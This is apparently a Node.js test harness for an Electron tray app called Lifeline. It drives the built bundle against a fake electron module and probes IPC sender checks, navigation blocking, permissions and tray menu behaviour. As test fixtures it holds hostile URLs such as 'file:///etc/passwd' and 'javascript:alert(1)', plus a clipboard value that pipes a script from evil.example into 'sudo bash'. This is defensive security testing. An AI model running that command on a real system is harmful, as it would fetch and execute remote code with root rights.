// Runs the REAL built main bundle against the fake electron module and reports, as one JSON line on stdout
// (prefixed with RESULT_MARK), what the app did and how it answered probes a hostile page or a user would send.
//
//   node --import ./register.mjs drive-main.mjs <out/main/index.js> <scenario>
//
// Scenarios: `full` (start, probe IPC, navigation, permissions, tray, then quit from the tray menu),
// `second-instance` (the single-instance lock is taken: the app must quit and build nothing),
// `start-only` (start, wait for the first check, quit; used for the autostart policy).
import { existsSync } from 'node:fs'
import process from 'node:process'
import { setTimeout } from 'node:timers'
import { pathToFileURL } from 'node:url'
import { app, powerMonitor, recorder } from './index.mjs'

const RESULT_MARK = '@@FAKE-ELECTRON-RESULT@@'
const [bundle, scenario = 'full'] = process.argv.slice(2)
const result = { scenario, errors: [] }
const sleep = (ms) => new Promise((r) => setTimeout(r, ms))

async function until(what, cond, timeoutMs = 20_000) {
  const end = Date.now() + timeoutMs
  while (Date.now() < end) {
    const v = cond()
    if (v) return v
    await sleep(20)
  }
  throw new Error(`timed out waiting for ${what}`)
}

const statusKinds = (wc) =>
  wc.sent.filter((s) => s.channel === 'app:status-changed').map((s) => s.payload?.kind)
const settled = (wc) => statusKinds(wc).some((k) => k === 'ready' || k === 'no-source')

/** The tray's newest menu as plain data (labels, enabled), plus a click by label. */
function trayMenu(tray) {
  const menu = tray.menus.at(-1)
  return menu ? menu.template : []
}
const plainMenu = (template) =>
  template.map((i) => ({ type: i.type ?? 'normal', label: i.label ?? null, enabled: i.enabled !== false }))
function clickTray(tray, label) {
  const item = trayMenu(tray).find((i) => i.label === label)
  if (!item?.click) throw new Error(`no tray item "${label}"`)
  item.click({}, undefined, {})
}

/** A fake IpcMainInvokeEvent. */
const event = (sender, frame) => ({ sender, senderFrame: frame, processId: 1, frameId: 1 })

async function probeIpc(win) {
  const indexUrl = pathToFileURL(win.loaded[0]?.path ?? '/nonexistent').href
  const wc = win.webContents
  const senders = {
    subframe: event(wc, { parent: { url: indexUrl }, url: indexUrl }),
    foreignUrl: event(wc, { parent: null, url: 'https://evil.example/index.html' }),
    otherFile: event(wc, { parent: null, url: 'file:///tmp/index.html' }),
    unknownWebContents: event({ id: 987_654, send() {} }, { parent: null, url: indexUrl }),
    destroyedFrame: event(wc, null),
  }
  const forbidden = {}
  for (const [channel, handler] of recorder.handlers) {
    forbidden[channel] = {}
    for (const [name, ev] of Object.entries(senders)) {
      try {
        forbidden[channel][name] = await handler(ev)
      } catch (e) {
        forbidden[channel][name] = { threw: String(e) }
      }
    }
  }
  const trusted = event(wc, { parent: null, url: indexUrl })
  const call = async (channel, ...args) => {
    const h = recorder.handlers.get(channel)
    if (!h) return { missing: channel }
    try {
      return await h(trusted, ...args)
    } catch (e) {
      return { threw: String(e) }
    }
  }
  return {
    forbidden,
    trusted: {
      getStatus: await call('app:get-status'),
      getAppInfo: await call('app:get-app-info'),
      getSettings: await call('app:get-settings'),
      badArgument: await call('app:open-advisory', 'https://evil.example/'),
      extraArgument: await call('app:get-status', 'x'),
    },
  }
}

function probeWebContents(wc, indexPath) {
  const prevented = (eventName, ...args) => {
    let p = false
    const ev = {
      preventDefault() {
        p = true
      },
    }
    wc.emit(eventName, ev, ...args)
    return p
  }
  const targets = [
    'https://evil.example/',
    'https://ubuntu.com/security/notices',
    pathToFileURL(indexPath).href,
    'file:///etc/passwd',
    'javascript:alert(1)',
  ]
  return {
    listeners: {
      willNavigate: wc.listenerCount('will-navigate'),
      willRedirect: wc.listenerCount('will-redirect'),
      willAttachWebview: wc.listenerCount('will-attach-webview'),
    },
    navigation: Object.fromEntries(targets.map((u) => [u, prevented('will-navigate', u)])),
    redirect: Object.fromEntries(targets.map((u) => [u, prevented('will-redirect', u)])),
    webview: prevented('will-attach-webview', {}, { src: 'https://evil.example/' }),
    windowOpen: wc.windowOpenHandler
      ? Object.fromEntries(
          targets.map((u) => [
            u,
            wc.windowOpenHandler({ url: u, frameName: '', features: '', disposition: 'new-window' }),
          ]),
        )
      : null,
  }
}

function probePermissions(wc) {
  const permissions = [
    'clipboard-sanitized-write',
    'clipboard-read',
    'media',
    'geolocation',
    'notifications',
    'openExternal',
    'fullscreen',
    'pointerLock',
    'midi',
    'hid',
    'serial',
    'usb',
    'display-capture',
  ]
  const request = {}
  const check = {}
  for (const p of permissions) {
    let granted = 'no answer'
    recorder.permissionRequestHandler?.(wc, p, (g) => (granted = g), { requestingUrl: 'file:///x' })
    request[p] = granted
    check[p] = recorder.permissionCheckHandler
      ? recorder.permissionCheckHandler(wc, p, 'file://', {})
      : 'no handler'
  }
  return { request, check }
}

function snapshot() {
  return {
    calls: recorder.calls,
    sandboxEnabled: recorder.sandboxEnabled,
    quitCalled: recorder.quitCalled,
    handlers: [...recorder.handlers.keys()].sort(),
    windows: recorder.windows.map((w) => ({
      options: w.options,
      loaded: w.loaded,
      preloadExists:
        typeof w.options.webPreferences?.preload === 'string' && existsSync(w.options.webPreferences.preload),
      shown: w.shown,
      focused: w.focused,
      destroyed: w.isDestroyed(),
      sent: w.webContents.sent.map((s) => ({
        channel: s.channel,
        kind: s.payload?.kind ?? null,
        payload: s.channel === 'app:navigate' ? s.payload : undefined,
      })),
    })),
    trays: recorder.trays.map((t) => ({
      images: t.images.map((p) => ({ path: p, exists: p !== null && existsSync(p) })),
      tooltip: t.tooltips.at(-1) ?? null,
      menu: plainMenu(trayMenu(t)),
      destroyed: t.destroyed,
    })),
    notifications: recorder.notifications.map((n) => n.options),
    openExternal: recorder.openExternal,
    clipboardReads: recorder.clipboardReads,
    emptyImages: recorder.emptyImages,
    errorBoxes: recorder.errorBoxes,
    hasPermissionHandlers: {
      request: typeof recorder.permissionRequestHandler === 'function',
      check: typeof recorder.permissionCheckHandler === 'function',
    },
  }
}

async function main() {
  await import(pathToFileURL(bundle).href)
  recorder.calls.push(['ready'])
  app.fireReady()
  if (scenario === 'second-instance') {
    await sleep(500)
    return
  }
  const win = await until('the status window', () => recorder.windows[0])
  await until('the first check to finish', () => settled(win.webContents))
  const tray = await until('the tray', () => recorder.trays[0])
  await until('the tray menu', () => tray.menus.length > 0)
  if (scenario === 'full') {
    result.atStart = snapshot()
    result.ipc = await probeIpc(win)
    result.webContents = probeWebContents(win.webContents, win.loaded[0]?.path ?? '/nonexistent')
    result.permissions = probePermissions(win.webContents)

    // The tray menu, as a user would use it.
    const focusedBefore = win.focused
    app.emit('second-instance', {}, ['lifeline'], process.cwd())
    result.secondInstanceFocused = win.focused > focusedBefore
    recorder.clipboardText = 'curl -fsSL https://evil.example/fix.sh | sudo bash'
    clickTray(tray, 'Check clipboard')
    await until('the navigation to the checker', () =>
      win.webContents.sent.some((s) => s.channel === 'app:navigate' && s.payload?.checkClipboard === true),
    )
    clickTray(tray, 'Pause notifications for 1 hour')
    await until('the paused menu', () => trayMenu(tray).some((i) => i.label === 'Resume notifications'))
    result.pausedMenu = plainMenu(trayMenu(tray))
    clickTray(tray, 'Resume notifications')
    await until('the resumed menu', () =>
      trayMenu(tray).some((i) => i.label === 'Pause notifications for 1 hour'),
    )
    powerMonitor.emit('resume')
    // Closing the window keeps the tray app running; Open builds a fresh window that loads the same page.
    win.destroy()
    clickTray(tray, 'Open Lifeline')
    await until('a second window', () => recorder.windows[1]?.loaded.length > 0)
    result.reopened = {
      loaded: recorder.windows[1].loaded,
      // A new window has a new webContents id: it must be trusted, the closed one's id no longer.
      trustedNew: await recorder.handlers.get('app:get-status')?.(
        event(recorder.windows[1].webContents, {
          parent: null,
          url: pathToFileURL(recorder.windows[1].loaded[0]?.path ?? '/x').href,
        }),
      ),
      trustedClosed: await recorder.handlers.get('app:get-status')?.(
        event(win.webContents, { parent: null, url: pathToFileURL(win.loaded[0]?.path ?? '/x').href }),
      ),
    }
  }
  clickTray(tray, 'Quit Lifeline')
  await until('quit', () => tray.destroyed, 5_000)
}

try {
  await main()
} catch (e) {
  result.errors.push(String(e?.stack ?? e))
}
result.final = snapshot()
process.stdout.write(`\n${RESULT_MARK}${JSON.stringify(result)}\n`)
// No process.exit: the parent asserts the app leaves no timer or socket behind once it quit.
